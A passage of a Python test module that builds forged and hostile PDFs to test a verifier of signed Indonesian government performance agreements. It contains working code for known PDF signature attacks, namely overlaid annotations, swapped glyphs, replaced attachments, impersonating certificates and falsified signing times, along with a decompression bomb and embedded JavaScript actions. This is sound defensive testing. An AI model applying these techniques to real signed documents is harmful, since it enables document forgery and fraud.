            for table in tt["cmap"].tables:
                name = table.cmap.get(codes[ch]) or table.cmap.get(0xF000 + codes[ch])
                if name:
                    glyph[ch] = name
                    break
        glyf, hmtx = tt["glyf"], tt["hmtx"]
        eight, nine = glyph["8"], glyph["9"]
        glyf[eight], glyf[nine] = glyf[nine], glyf[eight]
        hmtx[eight], hmtx[nine] = hmtx[nine], hmtx[eight]
        out = io.BytesIO()
        tt.save(out)
        payload = out.getvalue()
        return append_update(
            good,
            {file_stream.objgen[0]: stream_object(b"/Length1 %d" % len(payload), payload)},
        )


# ---------------------------------------------------------------------------------------------
# 5. PDF certification attacks


def evil_annotation(good: bytes) -> bytes:
    """Evil Annotation Attack (S&P 2021): a FreeText annotation showing 95 over 85."""
    with open_pdf(good) as pdf:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        box = target_box(pdf)
        annot, appearance = next_object_numbers(good, 2)
        rect = b"[ %s ]" % b" ".join(b"%.2f" % v for v in box)
        bbox = (0.0, 0.0, box[2] - box[0], box[3] - box[1])
        annots = [unparse(a) for a in page.get("/Annots", [])]
        return append_update(
            good,
            {
                annot: b"<< /Type /Annot /Subtype /FreeText /F 4 /Rect %s /P %s /Contents (%s) "
                b"/DA (%s %.1f Tf 0 g) /AP << /N %s >> >>"
                % (
                    rect,
                    ref(page.objgen[0]),
                    FORGED.encode(),
                    run.font.encode(),
                    run.size,
                    ref(appearance),
                ),
                appearance: _form_xobject(pdf, overlay_content(pdf, at_origin=True), bbox, run),
                page.objgen[0]: dict_text(
                    page, {"/Annots": b"[ %s ]" % b" ".join([*annots, ref(annot)])}
                ),
            },
        )


def sneaky_signature(good: bytes) -> bytes:
    """Sneaky Signature Attack (S&P 2021): a new visible signature field showing 95.

    Added over 85 after the certification and signed by an outsider's certificate (another demo
    PKI).
    """
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.content import PdfResources, RawContent
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.pdf_utils.layout import (
        AxisAlignment,
        BoxConstraints,
        InnerScaling,
        Margins,
        SimpleBoxLayoutRule,
    )
    from pyhanko.sign import fields, signers
    from pyhanko.stamp import StaticStampStyle

    from signer.demo_pki import pki
    from signer.model import Pihak

    outsider = Pihak("Penyerang", "Staf Lain")
    authority = pki.build_demo_pki([outsider], "Instansi Lain")
    credential = credential_from(authority.issued_for(outsider), authority.chain, "outsider")
    with open_pdf(good) as pdf:
        page = lampiran_page(pdf)
        run = target_run(pdf)
    width, height = 38, 13
    box = (
        round(run.x) - 12,
        round(run.y) - 3,
        round(run.x) - 12 + width,
        round(run.y) - 3 + height,
    )
    resources = PdfResources()
    resources.font[generic.pdf_name("/Helv")] = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Font"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
            generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
            generic.pdf_name("/Encoding"): generic.pdf_name("/WinAnsiEncoding"),
        }
    )
    painted = b"1 1 1 rg 0 0 %d %d re f 0 g BT /Helv %d Tf 12 3 Td (%s) Tj ET" % (
        width,
        height,
        round(run.size),
        FORGED.encode(),
    )
    style = StaticStampStyle(
        border_width=0,
        background=RawContent(painted, resources, BoxConstraints(width, height)),
        background_opacity=1,
        background_layout=SimpleBoxLayoutRule(
            x_align=AxisAlignment.ALIGN_MIN,
            y_align=AxisAlignment.ALIGN_MIN,
            margins=Margins(0, 0, 0, 0),
            inner_content_scaling=InnerScaling.NO_SCALING,
        ),
    )
    signer = signers.PdfSigner(
        signers.PdfSignatureMetadata(field_name="Persetujuan"),
        credential.signer,
        stamp_style=style,
        new_field_spec=fields.SigFieldSpec("Persetujuan", on_page=page, box=box),
    )
    out = io.BytesIO()
    signer.sign_pdf(IncrementalPdfFileWriter(io.BytesIO(good)), output=out)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# 6. The embedded agreement


def _embedded_stream(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.Root.AF[0].EF.F


def _forged_json(data: bytes) -> bytes:
    forged = data.replace(b'"target":{"nilai":"85"}', b'"target":{"nilai":"95"}', 1)
    assert forged != data
    return forged


def _embedded_file(payload: bytes, when: bytes) -> bytes:
    return stream_object(
        b"/Type /EmbeddedFile /Subtype /application#2Fjson /Params << /Size %d /CheckSum <%s> "
        b"/CreationDate %s /ModDate %s >>"
        % (len(payload), hashlib.md5(payload).hexdigest().encode(), when, when),
        payload,
    )


def attachment_replaced(good: bytes) -> bytes:
    """Attachment swap (ISA on the PDF/A-3 associated file): the JSON says 95.

    Size and checksum in /Params are made consistent with the forged JSON.
    """
    with open_pdf(good) as pdf:
        stream = _embedded_stream(pdf)
        when = stream.Params.ModDate.unparse()
        payload = _forged_json(stream.read_bytes())
        return append_update(good, {stream.objgen[0]: _embedded_file(payload, when)})


def attachment_added(good: bytes) -> bytes:
    """Attachment added (ISA on the associated files): a second JSON saying 95.

    Listed in /Names /EmbeddedFiles and in the catalog's /AF.
    """
    with open_pdf(good) as pdf:
        stream = _embedded_stream(pdf)
        spec = pdf.Root.AF[0]
        tree = pdf.Root.Names.EmbeddedFiles
        when = stream.Params.ModDate.unparse()
        payload = _forged_json(stream.read_bytes())
        new_spec, new_file = next_object_numbers(good, 2)
        name = str(spec.F)
        other = name.replace(".json", "-perubahan.json")
        return append_update(
            good,
            {
                new_file: _embedded_file(payload, when),
                new_spec: b"<< /Type /Filespec /F (%s) /UF (%s) /AFRelationship /Data "
                b"/Desc (Data perjanjian) /EF << /F %s /UF %s >> >>"
                % (other.encode(), other.encode(), ref(new_file), ref(new_file)),
                tree.objgen[0]: dict_text(
                    tree,
                    {
                        "/Names": b"[ %s ]"
                        % b" ".join(  # a name tree's keys are sorted
                            b"(%s) %s" % (key.encode(), ref(num))
                            for key, num in sorted([(name, spec.objgen[0]), (other, new_spec)])
                        )
                    },
                ),
                pdf.Root.objgen[0]: dict_text(
                    pdf.Root, {"/AF": b"[ %s %s ]" % (ref(spec.objgen[0]), ref(new_spec))}
                ),
            },
        )


# ---------------------------------------------------------------------------------------------
# 7. Truncation


def truncate_last_signature(good: bytes) -> bytes:
    """Signature stripping by truncation: cut back to before pihak kedua signed."""
    sig = signature_objects(good)[PIHAK_KEDUA]
    return good[: max(e for e in eof_ends(good) if e <= sig.start)]


def truncate_mid_revision(good: bytes) -> bytes:
    """Signature stripping by truncation: cut 400 bytes into pihak kedua's revision."""
    sig = signature_objects(good)[PIHAK_KEDUA]
    end = max(e for e in eof_ends(good) if e <= sig.start)
    return good[: end + 400]


# ---------------------------------------------------------------------------------------------
# 8. Metadata


def metadata_rewritten(good: bytes) -> bytes:
    """Metadata rewritten after signing (ISA on /Info and XMP): another unit's title."""
    with open_pdf(good) as pdf:
        info = pdf.trailer.Info
        meta = pdf.Root.Metadata
        old = str(info.Title)
        new = old.replace("Dinas Kesehatan", "Dinas Pendidikan")
        xmp = meta.read_bytes().replace(old.encode(), new.encode())
        assert new != old and new.encode() in xmp
        return append_update(
            good,
            {
                info.objgen[0]: dict_text(info, {"/Title": pikepdf.String(new).unparse()}),
                meta.objgen[0]: stream_object(
                    b"/Type /Metadata /Subtype /XML", xmp, compress=False
                ),
            },
        )


# ---------------------------------------------------------------------------------------------
# 9. Impersonation


def _parties(prepared: bytes) -> Agreement:
    from pyhanko.pdf_utils.reader import PdfFileReader

    from signer.embedded import read_embedded

    return read_embedded(PdfFileReader(io.BytesIO(prepared)).root).agreement


def impersonation_untrusted(prepared: bytes, store: Path | None = None) -> bytes:
    """Impersonation, untrusted CA: look-alike certificates in both parties' names.

    Both sign B-LTA with the look-alike PKI's TSA and revocation answers; nothing of the trusted
    PKI is involved.
    """
    from signer.demo_pki import pki
    from signer.model import Peran
    from signer.sign.backend import Level
    from signer.sign.pades import PadesSigner
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    fake = pki.build_demo_pki([a.pihak_pertama, a.pihak_kedua], a.instansi.nama)
    services = demo_services(fake)

    def credential_for(_a, role):
        return credential_from(fake.issued_for(_a.pihak(role)), fake.chain, "look-alike")

    data = prepared
    for role in (Peran.PIHAK_PERTAMA, Peran.PIHAK_KEDUA):
        data = sign_unchecked(data, PadesSigner(credential_for, services), role, Level.B_LTA)
    return data


def impersonation_untrusted_kedua(prepared: bytes, store: Path) -> bytes:
    """Impersonation, untrusted CA: pihak kedua signs with a look-alike certificate.

    Pihak pertama really signs (B-LTA); pihak kedua's signature (B-B) is made with a certificate in
    the right name from another CA.
    """
    from signer.demo_pki import pki
    from signer.model import Peran
    from signer.sign.backend import Level
    from signer.sign.pades import PadesSigner
    from signer.sign.services import Services
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    fake = pki.build_demo_pki([a.pihak_kedua], a.instansi.nama)
    credential = credential_from(fake.issued_for(a.pihak_kedua), fake.chain, "look-alike")
    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    roots = signing_setup(store).services.trust_roots
    backend = PadesSigner(lambda _a, _r: credential, Services(None, None, roots))  # B-B: no TSA
    return sign_unchecked(first, backend, Peran.PIHAK_KEDUA, Level.B_B)


def impersonation_other_party(prepared: bytes, store: Path) -> bytes:
    """Impersonation by another trusted party: pihak kedua's field, someone else's key.

    The demo store's certificate of a third party signs pihak kedua's field (B-LTA), with pihak
    kedua's stamp; pyHanko directly, as `kinerja sign` refuses it.
    """
    from signer.names import same_person
    from signer.sign.keys import KeyStore

    a = _parties(prepared)
    keys = KeyStore(store, PASSPHRASE)
    other = next(
        c
        for c in keys.credentials
        if not same_person(c.holder, a.pihak_kedua.nama)
        and not same_person(c.holder, a.pihak_pertama.nama)
    )
    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    return sign_field_directly(first, PIHAK_KEDUA, other, signing_setup(store).services)


# ---------------------------------------------------------------------------------------------
# 10. Weak algorithms


def weak_digest_sha1(prepared: bytes, store: Path) -> bytes:
    """Weak algorithm (ETSI TS 119 312, SHA-1 expired 2009): pihak kedua uses SHA-1.

    B-LTA; pyHanko is told to accept any algorithm while signing.
    """
    from pyhanko_certvalidator import ValidationContext
    from pyhanko_certvalidator.policy_decl import AcceptAllAlgorithms

    from signer.demo_pki import pki
    from signer.demo_pki.responders import demo_fetchers, to_asn1_cert
    from signer.model import Peran

    ready = signing_setup(store)
    a = _parties(prepared)
    authority = pki.load_demo_pki(store, PASSPHRASE)
    permissive = ValidationContext(
        trust_roots=[to_asn1_cert(authority.root.cert)],
        other_certs=[to_asn1_cert(authority.intermediate.cert)],
        allow_fetching=True,
        revocation_mode="hard-fail",
        fetchers=demo_fetchers(authority),
        algorithm_usage_policy=AcceptAllAlgorithms(),
    )
    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    credential = ready.credential_for(a, Peran.PIHAK_KEDUA)
    return sign_field_directly(
        first,
        PIHAK_KEDUA,
        credential,
        ready.services,
        md_algorithm="sha1",
        validation_context=permissive,
    )


def weak_key_rsa1024(prepared: bytes, store: Path) -> bytes:
    """Weak algorithm (ETSI TS 119 312, RSA under 1900 bits): an RSA-1024 pihak kedua.

    The certificate is issued by the trusted demo intermediate, in pihak kedua's name.
    """
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import rsa

    from signer.model import Peran
    from signer.sign.backend import Level
    from signer.sign.pades import PadesSigner
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    ready = signing_setup(store)
    real = ready.credential_for(a, Peran.PIHAK_KEDUA).certificate
    credential = _demo_issued(
        store,
        x509.load_der_x509_certificate(real.dump()).subject,
        rsa.generate_private_key(public_exponent=65537, key_size=1024),
        "rsa-1024",
    )
    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    backend = PadesSigner(
        lambda _a, role: (
            credential if role is Peran.PIHAK_KEDUA else ready.credential_for(_a, role)
        ),
        ready.services,
    )
    return sign_unchecked(first, backend, Peran.PIHAK_KEDUA, Level.B_LTA)


# ---------------------------------------------------------------------------------------------
# 11. Revocation


def revoked_signer(prepared: bytes, folder: Path) -> bytes:
    """Revoked signing certificate (ETSI plugtests): revoked before pihak kedua signs.

    A fresh demo PKI is written to ``folder`` (verify against it). Pihak pertama signs B-LTA; pihak
    kedua's certificate is revoked an hour before pihak kedua signs (B-T); an update adds the OCSP
    answer and CRL saying so to the DSS, and a document timestamp covers it all. The CRL in the
    written key store lists the revocation too.
    """

    from signer.demo_pki import pki
    from signer.model import Peran
    from signer.sign.backend import Level
    from signer.sign.pades import PadesSigner
    from signer.sign.services import Services
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    parties = [a.pihak_pertama, a.pihak_kedua]
    authority = pki.build_demo_pki(parties, a.instansi.nama)
    pki.write_demo_pki(authority, folder, parties, PASSPHRASE)
    services = demo_services(authority)

    def credential_for(_a, role):
        return credential_from(authority.issued_for(_a.pihak(role)), authority.chain, role.value)

    first = sign_unchecked(
        prepared, PadesSigner(credential_for, services), Peran.PIHAK_PERTAMA, Level.B_LTA
    )
    victim = authority.issued_for(a.pihak_kedua).cert
    authority.revoked[victim.serial_number] = dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
    no_revinfo = Services(services.timestamper, None, services.trust_roots)  # B-T
    second = sign_unchecked(
        first, PadesSigner(credential_for, no_revinfo), Peran.PIHAK_KEDUA, Level.B_T
    )
    # the revocation evidence, as a B-LT extension would collect it: the responder's answer and
    # the intermediate's CRL, both saying revoked; a document timestamp over it all (not
    # `kinerja extend`: pyHanko's archival chain update rewrites the VRI of the earlier document
    # timestamp, which it then holds against pihak kedua)
    stamped, crl_der = revocation_evidence_stamped(second, victim, authority, services)
    # the key store on disk says so too: its intermediate CRL lists the revoked certificate
    (folder / "crl" / "intermediate.crl").write_bytes(crl_der)
    return stamped


def revocation_evidence_stamped(
    pdf: bytes, victim: Any, authority: Any, services: Any
) -> tuple[bytes, bytes]:
    """``pdf`` with the demo PKI's present answers about ``victim`` (its responder's OCSP answer
    and the intermediate's CRL) in the DSS, under a document timestamp; and the CRL's DER."""
    from asn1crypto import crl as asn1_crl
    from cryptography.hazmat.primitives import serialization
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    from signer.demo_pki import pki
    from signer.demo_pki.responders import DemoOCSPFetcher, to_asn1_cert

    ocsp = DemoOCSPFetcher(authority).respond(to_asn1_cert(victim))
    crl_der = pki.build_crl(authority.intermediate, authority.revoked.items()).public_bytes(
        serialization.Encoding.DER
    )
    out = io.BytesIO(pdf)
    DocumentSecurityStore.add_dss(
        out,
        sig_contents=None,  # DSS level only, no VRI entry
        certs=[to_asn1_cert(c) for c in (victim, *authority.chain)],
        ocsps=[ocsp],
        crls=[asn1_crl.CertificateList.load(crl_der)],
    )
    stamped = io.BytesIO()
    PdfTimeStamper(services.timestamper).timestamp_pdf(
        IncrementalPdfFileWriter(out),
        "sha256",
        validation_context=services.validation_context(),
        output=stamped,
    )
    return stamped.getvalue(), crl_der


# ---------------------------------------------------------------------------------------------
# 12. Time: certificates outside their validity, claimed times that lie


def _own_pki_signers(
    prepared: bytes, folder: Path, **build: object
) -> tuple[DemoPki, Services, Callable[[Agreement, Peran], Credential]]:
    """A fresh demo PKI for the agreement's two parties, written to ``folder`` (verify against
    it), its services, and the parties' credentials by role."""
    from signer.demo_pki import pki

    a = _parties(prepared)
    parties = [a.pihak_pertama, a.pihak_kedua]
    authority = pki.build_demo_pki(parties, a.instansi.nama, **build)  # type: ignore[arg-type]
    pki.write_demo_pki(authority, folder, parties, PASSPHRASE)

    def credential_for(agreement: Agreement, role: Peran) -> Credential:
        issued = authority.issued_for(agreement.pihak(role))
        return credential_from(issued, authority.chain, role.value)

    return authority, demo_services(authority), credential_for


def time_expired_signer(prepared: bytes, folder: Path, extended: bool = False) -> bytes:
    """A certificate that expired a month ago signs today with a signature timestamp (B-T): the
    signature time is proven, and the certificate was not valid at it (verified against the CA's
    own key store). ``extended``: then `kinerja extend` adds the revocation data and an archival
    timestamp, which prove nothing about the signature's certificate being valid."""
    from signer.model import Peran
    from signer.sign.backend import Level
    from signer.sign.extend import extend_bytes
    from signer.sign.pades import PadesSigner
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    _authority, services, credential_for = _own_pki_signers(
        prepared, folder, expired=[a.pihak_kedua.nama]
    )
    backend = PadesSigner(credential_for, services)
    data = sign_unchecked(prepared, backend, Peran.PIHAK_PERTAMA, Level.B_LTA)
    data = sign_unchecked(data, backend, Peran.PIHAK_KEDUA, Level.B_T)
    return extend_bytes(data, "attack.pdf", services) if extended else data


def time_claimed(prepared: bytes, store: Path, when: str) -> bytes:
    """Pihak kedua's signature claims a signing time (/M) that lies: a day ``"after"`` its own
    timestamp, or ``"before"`` its certificate existed (the signer's clock set so)."""
    from unittest import mock

    import pyhanko.sign.signers.pdf_signer as pdf_signer

    from signer.model import Peran
    from signer.sign.backend import Level
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    backend = signing_setup(store)
    cert = backend.credential_for(a, Peran.PIHAK_KEDUA).certificate
    day = dt.timedelta(days=1)
    claimed = dt.datetime.now(dt.UTC) + day if when == "after" else cert.not_valid_before - day

    class Clock(dt.datetime):
        @classmethod
        def now(cls, tz: dt.tzinfo | None = None) -> Clock:
            return claimed.astimezone(tz)  # type: ignore[return-value]

    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    with mock.patch.object(pdf_signer, "datetime", Clock):  # only the signer's clock: /M
        return sign_unchecked(first, backend, Peran.PIHAK_KEDUA, Level.B_LTA)


def purpose_client_auth(prepared: bytes, store: Path) -> bytes:
    """A certificate for client authentication, not for signing (extended key usage clientAuth,
    key usage digitalSignature only, no non-repudiation), issued in pihak kedua's name by the
    trusted demo intermediate, signs pihak kedua's field."""
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import ExtendedKeyUsageOID

    from signer.model import Peran

    a = _parties(prepared)
    ready = signing_setup(store)
    real = ready.credential_for(a, Peran.PIHAK_KEDUA).certificate
    credential = _demo_issued(
        store,
        x509.load_der_x509_certificate(real.dump()).subject,
        ec.generate_private_key(ec.SECP256R1()),
        "client-auth",
        eku=[ExtendedKeyUsageOID.CLIENT_AUTH],
    )
    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    return sign_field_directly(
        first, PIHAK_KEDUA, credential, ready.services, key_usage={"digital_signature"}
    )


# ---------------------------------------------------------------------------------------------
# Hostile files: what they cost the verifier, not what it concludes


def decompression_bomb(good: bytes, megabytes: int = 1024) -> bytes:
    """An incremental update replaces the embedded agreement's stream with ``megabytes`` of
    zeros, deflated to about a thousandth of that: a small file that costs its reader the lot."""
    compressor = zlib.compressobj(9)
    chunk = bytes(16 * 1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(megabytes // 16)]
    payload = b"".join([*parts, compressor.flush()])
    with open_pdf(good) as pdf:
        number = pdf.Root.AF[0].EF.F.objgen[0]
    entries = b"/Type /EmbeddedFile /Subtype /application#2Fjson /Filter /FlateDecode"
    return append_update(good, {number: stream_object(entries, payload, compress=False)})


# ---------------------------------------------------------------------------------------------
# 14. Identity beyond the name


def _trusted_look_alike(
    store: Path, role: Peran, cn: str, org: str, title: str | None
) -> tuple[PadesSigner, Credential]:
    """The demo key store's own signers, and a certificate from its trusted intermediate with
    the given subject (a look-alike the CA really issued)."""
    from cryptography.hazmat.primitives.asymmetric import ec

    from signer.demo_pki import pki
    from signer.sign.pades import PadesSigner

    ready = signing_setup(store)
    key = ec.generate_private_key(ec.SECP256R1())
    credential = _demo_issued(store, pki._name(cn, org, title), key, "look-alike")
    backend = PadesSigner(
        lambda a, r: credential if r is role else ready.credential_for(a, r), ready.services
    )
    return backend, credential


def identity_other_pemda(prepared: bytes, store: Path) -> bytes:
    """A namesake of pihak kedua in another pemerintah daerah (another O and title), with a
    certificate the trusted CA issued, signs pihak kedua's field."""
    from signer.model import Peran
    from signer.sign.backend import Level
    from tests.helpers import sign_unchecked

    a = _parties(prepared)
    backend, _ = _trusted_look_alike(
        store, Peran.PIHAK_KEDUA, a.pihak_kedua.nama, "Pemerintah Kabupaten Lain", "Bupati Lain"
    )
    first = sign_agreement(prepared, store, roles=[PIHAK_PERTAMA])
    return sign_unchecked(first, backend, Peran.PIHAK_KEDUA, Level.B_LTA)


def identity_other_nip(prepared: bytes, store: Path) -> bytes:
    """Pihak pertama's own certificate, but the signed reason (and stamp) carry another NIP:
    someone else of the same name signed in her place."""
    from dataclasses import replace

    from pyhanko.pdf_utils.reader import PdfFileReader

    from signer.embedded import read_embedded
    from signer.model import Nip, Peran
    from signer.sign.backend import Level
    from tests.helpers import sign_unchecked

    embedded = read_embedded(PdfFileReader(io.BytesIO(prepared)).root)
    a = embedded.agreement
    other = replace(a.pihak_pertama, nip=Nip("198001012005012001"))
    assert other.nip != a.pihak_pertama.nip
    claimed = replace(embedded, agreement=replace(a, pihak_pertama=other))
    backend = signing_setup(store)
    first = sign_unchecked(prepared, backend, Peran.PIHAK_PERTAMA, Level.B_LTA, claimed)
    return sign_unchecked(first, backend, Peran.PIHAK_KEDUA, Level.B_LTA)


# ---------------------------------------------------------------------------------------------
# 15. Document timestamps that prove nothing


def timestamp_untrusted(good: bytes) -> bytes:
    """An archival document timestamp appended from a timestamp authority nobody trusts: it
    proves nothing, must not raise the level, and must not count."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper

    from signer.demo_pki import pki
    from signer.demo_pki.responders import DemoTimeStamper, demo_validation_context

    a = _parties(good)
    stranger = pki.build_demo_pki([a.pihak_kedua], "Penyedia Cap Waktu Lain")
    out = io.BytesIO()
    PdfTimeStamper(DemoTimeStamper(stranger)).timestamp_pdf(
        IncrementalPdfFileWriter(io.BytesIO(good)),
        "sha256",
        validation_context=demo_validation_context(stranger),
        output=out,
    )
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# 16. Active content and other renderings: after both signatures (in a document timestamp's
# own revision) and inside the signed revision (planted before the ceremony)

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert('Dokumen ini sah')) >>"


def _timestamp_carrying(
    prepared: bytes, store: Path, change: Callable[[IncrementalPdfFileWriter], str | None]
) -> bytes:
    """Both parties sign as usual; then a trusted document timestamp whose own revision also
    carries what ``change`` writes (it may return the field name the timestamp should fill)."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.signers.pdf_signer import PdfTimeStamper

    from signer.demo_pki import pki
    from signer.demo_pki.responders import DemoTimeStamper, demo_validation_context

    good = sign_agreement(prepared, store)
    authority = pki.load_demo_pki(store, PASSPHRASE)
    writer = IncrementalPdfFileWriter(io.BytesIO(good))
    field = change(writer)
    out = io.BytesIO()
    PdfTimeStamper(DemoTimeStamper(authority), field_name=field).timestamp_pdf(
        writer, "sha256", validation_context=demo_validation_context(authority), output=out
    )
    return out.getvalue()


def _pdf(value: object) -> generic.PdfObject:
    """A pyHanko PDF object from Python values: "/Name" strings are names, (text,) a string."""
    from pyhanko.pdf_utils import generic

    if isinstance(value, dict):
        return generic.DictionaryObject({generic.NameObject(k): _pdf(v) for k, v in value.items()})
    if isinstance(value, list):
        return generic.ArrayObject([_pdf(v) for v in value])
    if isinstance(value, tuple):
        return generic.TextStringObject(value[0])
    if isinstance(value, str):
        return generic.NameObject(value)
    if isinstance(value, int):
        return generic.NumberObject(value)
    assert isinstance(value, generic.PdfObject)
    return value


def active_timestamp_widget(prepared: bytes, store: Path) -> bytes:
    """After both signatures, a document timestamp in a new, hidden field whose widget runs
    JavaScript when the page opens."""

    def change(writer: IncrementalPdfFileWriter) -> str:
        pages = writer.root["/Pages"]
        page = pages["/Kids"][0]
        script = {"/S": "/JavaScript", "/JS": ("app.alert('Dokumen ini sah')",)}
        widget = writer.add_object(
            _pdf(
                {
                    "/Type": "/Annot",
                    "/Subtype": "/Widget",
                    "/FT": "/Sig",
                    "/T": ("Timestamp-arsip",),
                    "/F": 2,
                    "/Rect": [0, 0, 0, 0],
                    "/P": pages["/Kids"].raw_get(0),
                    "/AA": {"/PO": script},
                }
            )
        )
        fields = writer.root["/AcroForm"]["/Fields"]
        fields.append(widget)
        writer.update_container(fields)
        page["/Annots"].append(widget)
        writer.update_container(page["/Annots"])
        return "Timestamp-arsip"

    return _timestamp_carrying(prepared, store, change)


def active_timestamp_link(prepared: bytes, store: Path) -> bytes:
    """After both signatures, a document timestamp whose revision adds a link over the whole
    first page that opens a web address."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        link = writer.add_object(
            _pdf(
                {
                    "/Type": "/Annot",
                    "/Subtype": "/Link",
                    "/Rect": [0, 0, 595, 842],
                    "/Border": [0, 0, 0],
                    "/A": {"/S": "/URI", "/URI": ("https://kinerja.invalid/",)},
                }
            )
        )
        page["/Annots"].append(link)
        writer.update_container(page["/Annots"])
        return None

    return _timestamp_carrying(prepared, store, change)


def _planted(
    prepared: bytes, store: Path, change: Callable[[pikepdf.Pdf], dict[int, bytes]]
) -> bytes:
    """Planted in the prepared document before the ceremony; both parties then sign it (with
    another tool: `kinerja sign` refuses it)."""
    with open_pdf(prepared) as pdf:
        objects = change(pdf)
    return sign_agreement_elsewhere(append_update(prepared, objects), store)


def active_signed_xfa(prepared: bytes, store: Path) -> bytes:
    """Inside the signed revision: an XFA form, which XFA viewers render instead of the pages."""

    def change(pdf: pikepdf.Pdf) -> dict[int, bytes]:
        form = pdf.Root.AcroForm
        [xfa] = next_object_numbers(prepared, 1)
        packet = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"
        return {
            xfa: stream_object(b"", packet),
            form.objgen[0]: dict_text(form, {"/XFA": ref(xfa)}),
        }

    return _planted(prepared, store, change)


def active_signed_open_action(prepared: bytes, store: Path) -> bytes:
    """Inside the signed revision: the catalog opens the document with JavaScript."""

    def change(pdf: pikepdf.Pdf) -> dict[int, bytes]:
        return {pdf.Root.objgen[0]: dict_text(pdf.Root, {"/OpenAction": JAVASCRIPT})}

    return _planted(prepared, store, change)


def active_signed_widget_action(prepared: bytes, store: Path) -> bytes:
    """Inside the signed revision: pihak kedua's signature widget opens a web address when
    clicked."""

    def change(pdf: pikepdf.Pdf) -> dict[int, bytes]:
        widget = next(f for f in pdf.Root.AcroForm.Fields if str(f.T) == PIHAK_KEDUA)
        action = b"<< /S /URI /URI (https://kinerja.invalid/) >>"
        return {widget.objgen[0]: dict_text(widget, {"/A": action})}

    return _planted(prepared, store, change)


def active_signed_optional_content(prepared: bytes, store: Path) -> bytes:
    """Inside the signed revision: the target painted by an optional-content XObject that is
    hidden on screen and printed (85 on the screen, 95 on paper)."""

    def change(pdf: pikepdf.Pdf) -> dict[int, bytes]:
        run = target_run(pdf)
        page = pdf.pages[run.page].obj
        ocg, printed, invoke = next_object_numbers(prepared, 3)
        box = (0.0, 0.0, float(page.MediaBox[2]), float(page.MediaBox[3]))
        xobject = _form_xobject(pdf, overlay_content(pdf, FORGED), box, run)
        xobject = xobject.replace(b"<<", b"<< /OC %s" % ref(ocg), 1)
        resources = page.Resources
        xobjects = dict(resources.get("/XObject", {}).items())
        names = b" ".join(
            pikepdf.Name(k).unparse() + b" " + unparse(v) for k, v in xobjects.items()
        )
        usage = b"/Usage << /View << /ViewState /OFF >> /Print << /PrintState /ON >> >>"
        root = pdf.Root
        return {
            ocg: b"<< /Type /OCG /Name (cetak) %s >>" % usage,
            printed: xobject,
            invoke: stream_object(b"", b"q /Cetak Do Q\n"),
            resources.objgen[0]: dict_text(
                resources, {"/XObject": b"<< %s /Cetak %s >>" % (names, ref(printed))}
            ),
            page.objgen[0]: dict_text(
                page, {"/Contents": b"[ %s %s ]" % (ref(page.Contents.objgen[0]), ref(invoke))}
            ),
            root.objgen[0]: dict_text(
                root,
                {
                    "/OCProperties": b"<< /OCGs [ %s ] /D << /OFF [ %s ] /AS [ << /Event /Print "
                    b"/OCGs [ %s ] /Category [ /Print ] >> ] >> >>" % (ref(ocg), ref(ocg), ref(ocg))
                },
            ),
        }

    return _planted(prepared, store, change)


# ---------------------------------------------------------------------------------------------
# 17. Unsigned revisions after the last timestamp: what a DSS update may and may not do


def dss_update(good: bytes, how: str) -> bytes:
    """A DSS update after the last document timestamp, which nothing signs: ``"stash"`` adds a
    forged agreement JSON among the certificates; ``"empty"`` replaces the DSS by an empty
    one (a control: the proofs the timestamps covered still count); ``"objstm"`` rewrites the
    same DSS through an object stream (a control: benign)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(good))
    dss = writer.root["/DSS"]
    if how == "stash":
        forged = generic.StreamObject(stream_data=_forged_json(_embedded_json(good)))
        certs = dss["/Certs"]
        certs.append(writer.add_object(forged))
        writer.update_container(certs)
    elif how == "empty":
        empty = {"/Certs": [], "/CRLs": [], "/OCSPs": []}
        writer.root["/DSS"] = writer.add_object(_pdf(empty))
        writer.update_root()
    else:
        assert how == "objstm"
        writer.stream_xrefs = True
        stream = writer.prepare_object_stream()
        copy = generic.DictionaryObject({k: dss.raw_get(k) for k in dss})
        writer.root["/DSS"] = writer.add_object(copy, obj_stream=stream)
        writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _embedded_json(good: bytes) -> bytes:
    with open_pdf(good) as pdf:
        return bytes(pdf.Root.AF[0].EF.F.read_bytes())
